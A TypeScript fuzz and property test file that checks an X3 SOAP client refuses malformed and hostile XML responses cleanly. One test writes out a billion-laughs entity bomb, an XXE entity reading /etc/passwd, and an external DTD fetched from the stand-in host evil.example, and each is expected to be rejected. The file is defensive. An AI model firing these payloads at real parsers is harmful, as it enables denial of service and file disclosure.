/**
 * Hostile and broken answers: whatever X3 (or something posing as it) sends, reading it ends quickly
 * in a result or an X3Error — never another exception, a crash or a hang.
 */
import fc from "fast-check";
import { X3Error } from "../../../src/x3/errors";
import { parseObjectData } from "../../../src/x3/soap/payload";
import { DEFAULT_XML_LIMITS } from "../../../src/x3/soap/xml";
import { answer, fixture } from "./helpers";

/** Reads an answer and its payload; returns "ok" or the X3Error's kind. Anything else fails the test. */
function outcome(status: number, text: string): string {
  const started = Date.now();
  try {
    const result = answer(status, text, "read");
    parseObjectData(result.resultXml, "read", DEFAULT_XML_LIMITS);
    return "ok";
  } catch (error) {
    if (!(error instanceof X3Error)) throw error;
    expect(error.message.length).toBeLessThan(2000);
    return error.kind;
  } finally {
    // Linear-time parsing: a few hundred kilobytes take milliseconds, not seconds.
    expect(Date.now() - started).toBeLessThan(2000);
  }
}

const success = fixture("read-success.xml").trimEnd();
const statuses = fc.constantFrom(200, 401, 500, 503, 404);

test("random text and random bytes", () => {
  fc.assert(
    fc.property(statuses, fc.string({ maxLength: 400 }), (status, text) => {
      outcome(status, text);
    }),
    { numRuns: 300 },
  );
  fc.assert(
    fc.property(fc.uint8Array({ maxLength: 400 }), (bytes) => {
      outcome(200, Buffer.from(bytes).toString("latin1"));
    }),
    { numRuns: 200 },
  );
});

test("a real answer cut anywhere, or with a slice replaced by noise, is refused cleanly", () => {
  fc.assert(
    fc.property(fc.nat({ max: success.length - 1 }), (at) => {
      const kind = outcome(200, success.slice(0, at));
      expect(kind).not.toBe("ok");
    }),
    { numRuns: 200 },
  );
  fc.assert(
    fc.property(fc.nat({ max: success.length - 1 }), fc.nat({ max: 40 }), fc.string({ maxLength: 20 }), (at, len, noise) => {
      outcome(200, success.slice(0, at) + noise + success.slice(at + len));
    }),
    { numRuns: 300 },
  );
});

test("billion laughs, external entities and DOCTYPEs, in the envelope or inside resultXml", () => {
  const laughs =
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">' +
    Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? "" : i};`.repeat(10)}">`).join("") +
    "]>";
  const hostile = [
    `${laughs}<lolz>&lol9;</lolz>`,
    `${laughs}${success.slice(success.indexOf("<soapenv:Envelope"))}`,
    `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${success.replace("JDOE", "&xxe;")}`,
    `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><x/>`,
    success.replace('<?xml version="1.0" encoding="UTF-8"?>\n<RESULT>', `${laughs}<RESULT>&lol9;`),
  ];
  for (const text of hostile) expect(outcome(200, text)).toBe("protocol");
});

test("huge attributes, huge text and deep nesting", () => {
  expect(outcome(200, success.replace('<FLD NAME="SYPUSR"', `<FLD X="${"a".repeat(1_000_000)}" NAME="SYPUSR"`))).toBe("ok");
  expect(outcome(200, `<a>${"x".repeat(5 * 1024 * 1024)}</a>`)).toBe("protocol");
  expect(outcome(200, `${"<a>".repeat(100_000)}${"</a>".repeat(100_000)}`)).toBe("protocol");
  const deepResult = success.replace("<RESULT>", `<RESULT>${"<GRP>".repeat(500)}${"</GRP>".repeat(500)}`);
  expect(outcome(200, deepResult)).toBe("protocol");
  fc.assert(
    fc.property(fc.integer({ min: 1, max: 3000 }), fc.constantFrom("a", "multiRef", "messages"), (depth, tag) => {
      const kind = outcome(200, `${`<${tag} href="#x" id="x">`.repeat(depth)}${`</${tag}>`.repeat(depth)}`);
      expect(kind).toBe("protocol");
    }),
    { numRuns: 50 },
  );
});

test("random structure built from the envelope's own vocabulary", () => {
  const tag = fc.constantFrom("Envelope", "Body", "readResponse", "readReturn", "messages", "multiRef", "status", "resultXml", "type", "message", "Fault");
  const node: fc.Memo<string> = fc.memo((n) =>
    n <= 1
      ? fc.oneof(fc.constantFrom("1", "0", "3", "", "&amp;", "<![CDATA[<RESULT/>]]>"), fc.string({ maxLength: 8 }))
      : fc
          .tuple(tag, fc.constantFrom("", ' href="#id0"', ' id="id0"', ' xsi:nil="true"'), fc.array(node(n - 1), { maxLength: 3 }))
          .map(([t, attr, kids]) => `<${t}${attr}>${kids.join("")}</${t}>`),
  );
  fc.assert(
    fc.property(node(6), (inner) => {
      outcome(200, `<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>${inner}</soapenv:Body></soapenv:Envelope>`);
    }),
    { numRuns: 300 },
  );
});
